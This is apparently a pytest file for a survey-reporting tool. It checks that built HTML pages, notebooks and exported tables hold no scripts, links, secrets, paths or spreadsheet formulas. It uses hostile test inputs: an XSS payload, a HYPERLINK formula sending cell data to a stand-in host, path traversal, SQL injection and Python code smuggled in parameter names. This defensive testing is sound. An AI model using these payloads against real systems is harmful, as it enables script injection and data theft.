"""Built pages are scanned before they may leave; the scanner is seen to find what is planted."""

import json
import re
from pathlib import Path

import pandas as pd
import pytest
from notebook_builder import display, notebook, save, shown, stream
from page_scanner import POLICY, scan, scan_notebook, scan_table, tables_without_n

from cxlab.cli import main
from cxlab.core.result import save_table
from cxlab.reporting.hiding import PathHider
from cxlab.reporting.notebooks import read_notebook, title_of
from cxlab.reporting.publish import MadeOf, render

ROOT = Path(__file__).resolve().parents[2]
ATTACK = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://a.example/?"&A1,"x")'
DEALERS = (ATTACK, "../../../outside", FORMULA, "nord'; DROP TABLE surveys; --", "{0.__class__}", "Ä" * 200)
SECRET = "value-of-a-token-7f3a"
GOOD = (
    f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
    f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
    "<title>t</title><style>p {}</style></head>"
    '<body><p>119,567 answers, 0.152 (2025-03-01), see <a href="#how">how</a>, 0.41 to 0.52.</p>'
    '<img src="data:image/png;base64,AAAA" alt="A figure">'
    "<table><tr><th>term</th><th>estimate</th><th>n</th></tr><tr><td>wait</td><td>-1.5</td><td>812</td></tr>"
    "<tr><td>few</td><td>nan</td><td>3</td></tr></table></body></html>"
)


def planted(what):
    return GOOD.replace("<body>", f"<body>{what}")


def test_a_good_page_has_no_findings():
    assert scan(GOOD) == []


@pytest.mark.parametrize(
    ("what", "found"),
    [
        ("<script>1</script>", "the tag <script>"),
        ("<p onclick=x()>a</p>", "the attribute onclick"),
        ("<svg onload=x()></svg>", "the tag <svg>"),
        ("<a href='javascript:x()'>a</a>", "leads to"),
        ("<a href=' java\nscript:x()'>a</a>", "leads to"),
        ("<a href='data:text/html,x'>a</a>", "leads to"),
        ("<a href='https://example.org/'>a</a>", "leads to"),
        ("<a href='../other.html'>a</a>", "leads to"),
        ("<img src='https://example.org/x.png' alt='a'>", "loads"),
        ("<img src='//example.org/x.png' alt='a'>", "loads"),
        ("<img srcset='x 2x' src='data:image/png;base64,AAAA' alt='a'>", "the attribute srcset"),
        ("<link rel=stylesheet href='#a'>", "the tag <link>"),
        ("<style>@import 'x'</style>", "loads a file"),
        ("<p style='background: url(x)'>a</p>", "loads"),
        ("<iframe></iframe>", "the tag <iframe>"),
        ("<form></form>", "the tag <form>"),
        ("<input type=text>", "an input of type"),
        ("<meta http-equiv=refresh content='0'>", "<meta http-equiv="),
        ("<!-- made by me -->", "a comment"),
        ("<p>see https://example.org/x</p>", "an address"),
        ("<img src='data:image/png;base64,AAAA'>", "no alt text"),
        ("<img src='data:image/png;base64,AAAA' alt=' '>", "no alt text"),
        ("<p>read /home/me/x.csv</p>", "a path"),
        ("<p title='C:\\Users\\me'>a</p>", "a path"),
        ("<p>{'papermill': {'input_path': 'x'}}</p>", "papermill"),
        ("<p>write to anna.b@example.org</p>", "an e-mail"),
        ("<p>call +49 89 5667 0312</p>", "a phone"),
        ("<p>call 0049-89-566703</p>", "a phone"),
        ("<p>call (089) 566 703</p>", "a phone"),
        ("<p>to DE89 3704 0044 0532 0130 00</p>", "an IBAN"),
        ("<p>customer C0000012</p>", "the number of a person"),
        ("<p>answer R0000012-01</p>", "the number of a person"),
        ("<p>password=hunter2hunter2</p>", "a secret"),
        ("<p>ghp_0123456789abcdefABCDEF0123456789abcd</p>", "a secret"),
        (f"<p>{SECRET}</p>", "a text of this machine"),
        ("<table><tr><th>term</th></tr><tr><td>=1+1</td></tr></table>", "a spreadsheet would run"),
        ("<table><tr><th>@SUM(A1)</th></tr></table>", "a spreadsheet would run"),
        (
            "<table><tr><th>a</th><th>estimate</th><th>n</th></tr><tr><td>x</td><td>0.4</td><td>4</td></tr></table>",
            "n = 4 beside an estimate",
        ),
    ],
)
def test_what_is_planted_is_found(what, found):
    assert any(found in finding for finding in scan(planted(what), secrets=[SECRET])), scan(planted(what))


@pytest.mark.parametrize(
    ("text", "instead", "found"),
    [
        (' lang="en"', "", "the language"),
        (' lang="en"', ' lang="no such"', "the language"),
        (POLICY, POLICY + "; script-src 'self'", "the policy"),
        ("Content-Security-Policy", "X-Other", "the policy"),
        ('<meta charset="utf-8">', "<style>p {}</style>", "behind"),
    ],
)
def test_a_page_without_language_or_policy_is_found(text, instead, found):
    assert any(found in finding for finding in scan(GOOD.replace(text, instead)))


def test_papermill_records_times_and_paths_in_a_published_notebook_are_found():
    made = notebook("1")
    made.metadata["papermill"] = {"input_path": "/home/me/x.ipynb"}
    made.cells[-1].metadata["execution"] = {"iopub.execute_input": "2026-01-01T10:00:00"}
    found = scan_notebook(json.dumps(made))
    assert {"metadata papermill", "metadata execution"} <= set(found)
    assert any("a path" in finding for finding in found)


def test_a_table_of_estimates_without_n_is_found():
    table = "<table><tr><th>term</th><th>estimate</th></tr></table>"
    assert tables_without_n(planted(table)) == [("term", "estimate")]
    assert tables_without_n(GOOD) == []


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Pages built by real kernels from a data folder in which every text is an attack, and their folder."""
    folder = tmp_path_factory.mktemp("hostile")
    codes = (
        "import os, pathlib\nimport pandas as pd",
        "answers = pd.read_csv(pathlib.Path(data) / 'surveys.csv')",
        "answers[answers['dealer'] == dealer]",
        "print(dealer)\nprint(pathlib.Path(data).resolve(), os.environ['DATABASE_TOKEN'])",
        "print(pathlib.Path.home())",
        "pd.DataFrame({dealer: [1.0]}).style.format(escape='html').format_index(escape='html', axis=1)",
    )
    parameters = 'data: str = "../data"  # folder\ndealer: str = ""  # name'
    made = notebook(
        *codes, parameters=parameters, headline="print(dealer, 'has', len(answers), 'answers.')"
    )
    save(made, folder / "notebooks" / "01_hostile.ipynb")
    (folder / "data").mkdir()
    table = {"response_id": [f"A{n}" for n in range(len(DEALERS))], "dealer": DEALERS, "overall": 7}
    table |= {
        "comment": [ATTACK] * len(DEALERS),
        ATTACK: FORMULA,
        "customer_id": "x",
        "answered_at": "2026-01-01",
    }
    pd.DataFrame(table).to_csv(folder / "data" / "surveys.csv", index=False)
    (folder / "reports").mkdir()
    quality = ROOT / "notebooks" / "01_data_quality.ipynb"
    fails = notebook(
        f"import os\nraise ValueError({ATTACK!r} + os.environ['DATABASE_TOKEN'] + os.getcwd())"
    )
    save(fails, folder / "notebooks" / "02_fails.ipynb")
    reports = [
        {"notebook": "01_hostile", "parameters": {"data": "{data}"}, "grid": {"dealer": list(DEALERS[:3])}},
        {"notebook": str(quality), "parameters": {"data": "{data}"}},
        {"notebook": "02_fails"},
    ]
    recipe = folder / "reports" / "hostile.yml"
    recipe.write_text(json.dumps({"title": f"Dealers {ATTACK}", "language": "de", "reports": reports}))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DATABASE_TOKEN", SECRET)
        before = {path for path in folder.rglob("*") if path.is_file()}
        code = main(
            [
                "batch",
                str(recipe),
                "--data",
                str(folder / "data"),
                "--out",
                str(folder / "out"),
                "--jobs",
                "1",
            ]
        )
    states = {
        report["notebook"]: report["status"]
        for report in json.loads((folder / "out" / "run.json").read_text())["reports"]
    }
    assert states == {"01_hostile.ipynb": "ok", "01_data_quality.ipynb": "ok", "02_fails.ipynb": "failed"}
    assert code == 1
    written = {path for path in folder.rglob("*") if path.is_file()} - before
    return folder, written


def test_pages_built_from_hostile_data_hold_nothing_that_runs_or_tells(hostile):
    folder, _ = hostile
    pages = sorted((folder / "out").rglob("*.html"))
    assert len(pages) == 6, "three dealers, the quality of the data, the failed one, and the overview"
    known = [str(folder), str(Path.home()), str(ROOT)]
    for page in pages:
        text = page.read_text()
        # The address in the planted formula is shown as text; nothing leads there.
        assert scan(text, secrets=[SECRET], folders=known, links=["http://a.example/?"]) == [], page.name
        assert '<html lang="de">' in text
    told = "".join(page.read_text() for page in pages)
    assert "&lt;script&gt;alert(1)" in told, "the attack is shown, as text"
    assert "'=HYPERLINK" in told


def test_nothing_of_a_hostile_batch_is_written_outside_its_folder(hostile):
    folder, written = hostile
    assert written
    assert all(path.is_relative_to(folder / "out") for path in written)
    # Tests beside this one may write files of that name for their own purpose.
    beside = [path for path in folder.parent.glob("outside*") if path not in folder.parents]
    assert not [*beside, *folder.rglob("outside*")]


def test_notebooks_and_records_of_a_hostile_batch_tell_nothing(hostile):
    folder, _ = hostile
    known = [str(folder), str(Path.home()), str(ROOT)]
    for path in sorted((folder / "out" / "notebooks").glob("*.ipynb")):
        assert scan_notebook(path.read_text(), secrets=[SECRET], folders=known) == [], path.name
    for path in [*(folder / "out" / "records").glob("*.json"), folder / "out" / "run.json"]:
        text = path.read_text()
        assert not [known_text for known_text in (SECRET, *known) if known_text in text], path.name


@pytest.mark.parametrize("dealer", DEALERS)
def test_every_hostile_name_is_text_on_its_page_and_a_safe_file_name(dealer, tmp_path):
    made = shown(
        stream(dealer), display(html=pd.DataFrame({dealer: [dealer]}).to_html()), title=dealer[:60]
    )
    page = render(
        made,
        title=dealer,
        folder=tmp_path,
        made_of=MadeOf(collection=dealer, notebook="01.ipynb", made_at="now", labels={dealer: dealer}),
    )
    assert scan(page, links=["http://a.example/?"]) == []


@pytest.mark.parametrize("name", ["n=1;open('x','w');m", "a b", "__import__('os')", "dealer\nimport os"])
def test_the_name_of_a_parameter_cannot_carry_code(name, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    save(notebook("pass", parameters='dealer: str = ""  # name'), tmp_path / "notebooks" / "01_one.ipynb")
    assert main(["run", "01_one", "-p", name, "1", "--out", "out"]) == 2
    assert "no such parameter" in capsys.readouterr().err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["notebooks"]


def test_a_parameter_that_is_a_secret_is_refused(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    made = notebook("pass", parameters='database_password: str = ""  # to log in')
    save(made, tmp_path / "notebooks" / "01_one.ipynb")
    assert main(["run", "01_one", "--out", "out"]) == 2
    assert "looks like a secret" in capsys.readouterr().err


def test_the_value_of_a_secret_variable_is_hidden_and_a_number_is_not(monkeypatch):
    monkeypatch.setenv("MY_API_KEY", "a&b-1234567")
    monkeypatch.setenv("MAX_TOKEN", "1000000000")
    text = PathHider().text("it is a&b-1234567, a&amp;b-1234567, 1000000000")
    assert text == "it is (hidden), (hidden), 1000000000"


def test_an_exported_table_holds_no_formula(tmp_path):
    table = pd.DataFrame({"=cmd": ["=1+1", "@x", "-2.5"], "estimate": [-1.5, 2.0, 3.0]})
    save_table(tmp_path / "table.csv", table)
    rows = pd.read_csv(tmp_path / "table.csv", header=None, dtype=str, keep_default_na=False)
    assert scan_table(rows.values.tolist()) == []
    assert len(scan_table([list(table.columns), *table.astype(str).values.tolist()])) == 3


def committed():
    return sorted((ROOT / "notebooks").glob("*.ipynb"))


@pytest.mark.parametrize("path", committed(), ids=lambda path: path.stem)
def test_the_page_of_every_notebook_of_the_house_holds_nothing_that_must_not_leave_it(path):
    made = read_notebook(path)
    written = "\n".join(cell.source for cell in made.cells if cell.cell_type == "markdown")
    links = re.findall(r"https?://[^\s)>\"']+", written)
    made_of = MadeOf(collection="Demo", notebook=path.name, made_at="now")
    page = render(made, title=title_of(made, path.stem), folder=path.parent, made_of=made_of)
    assert scan(page, links=links, folders=[str(Path.home()), str(ROOT)]) == []
    assert tables_without_n(page) == []
